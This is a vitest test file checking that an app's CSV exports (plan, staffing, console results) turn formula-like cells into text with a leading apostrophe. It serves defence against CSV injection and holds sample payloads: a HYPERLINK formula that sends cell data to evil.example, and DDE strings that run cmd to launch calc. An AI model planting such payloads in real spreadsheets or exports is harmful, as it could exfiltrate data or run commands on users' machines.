/**
 * Exports that cannot attack the user (issue #11, part 6): every CSV the app writes (plan,
 * staffing, charts and tables, console results) goes through one cell writer, and a cell that
 * starts with = + - @, a tab or a line break comes out as text in Excel and WPS. The files are
 * written as the browser writes them (BOM + CSV), read back from disk and split with the app's
 * CSV reader.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvRows } from '$lib/data/csv';
import { csvCell, objectsToCsv, toCsv } from '$lib/export/csv';
import { planCsv, type PlanRow } from '$lib/plan/export';
import { staffing, staffingCsv } from '$lib/plan/staffing';

const tmp = mkdtempSync(join(tmpdir(), 'gridatlas-csv-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** The CSV as a file on disk (BOM first, as downloadCsv writes it), read back as a spreadsheet would split it. */
function roundTrip(name: string, csv: string): string[][] {
  const path = join(tmp, name);
  writeFileSync(path, '\ufeff' + csv);
  return csvRows(readFileSync(path, 'utf8')).map((r) => r.cells);
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1'
];
/** What a spreadsheet treats as a formula: the first character of the cell as stored. */
const formulaLike = (cell: string) => /^[=+\-@\t\r\n]/.test(cell);

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it('are written as text (a leading apostrophe), everything after it kept', () => {
    const cells = roundTrip(
      'attacks.csv',
      toCsv(
        ['value'],
        ATTACKS.map((a) => [a])
      )
    );
    expect(cells.slice(1).map((r) => r[0])).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(cells.flat().filter(formulaLike)).toEqual([]);
  });

  it('numbers, negative numbers and ordinary text stay as they are', () => {
    expect([-3.5, '-3.5', '+7', -1e21, 0, '幸福小区1号楼', 'a=b', '2024-01-01'].map(csvCell)).toEqual([
      '-3.5',
      '-3.5',
      '+7',
      '-1e+21',
      '0',
      '幸福小区1号楼',
      'a=b',
      '2024-01-01'
    ]);
    expect(csvCell('-')).toBe("'-");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('=a,"b"')).toBe('"\'=a,""b"""');
  });

  it('staffing and plan exports: a worker, chief or grid name typed as a formula opens as text', () => {
    const s = staffing(
      ['G1', 'G2'],
      { G1: '=HYPERLINK("http://evil.example","王芳")', G2: '李强' },
      { G1: '@SUM(1)', G2: '+1-1' }
    );
    const staff = roundTrip('staffing.csv', staffingCsv(s, { G1: 400 }));
    expect(staff[1]).toEqual(['G1', '400', '\'=HYPERLINK("http://evil.example","王芳")', "'@SUM(1)"]);
    expect(staff[2]).toEqual(['G2', '0', '李强', "'+1-1"]);
    const rows: PlanRow[] = [
      { grid: '230102001001001', building: 'B1', households: 80, worker: '-cmd', chief: '', name: '=1+1' }
    ];
    const plan = roundTrip('plan.csv', planCsv(rows));
    expect(plan[1]).toEqual(['230102001001001', 'B1', '80', "'-cmd", '', "'=1+1"]);
    expect([...staff, ...plan].flat().filter(formulaLike)).toEqual([]);
  });

  it('console results: column names and values (text, lists) from a query are neutralised too', () => {
    const csv = objectsToCsv(['=x', 'n', 'list'], [{ '=x': '@A1', n: -2, list: ['=1', 2] as unknown as string }]);
    const cells = roundTrip('console.csv', csv);
    expect(cells).toEqual([
      ["'=x", 'n', 'list'],
      ["'@A1", '-2', "'=1,2"]
    ]);
  });
});
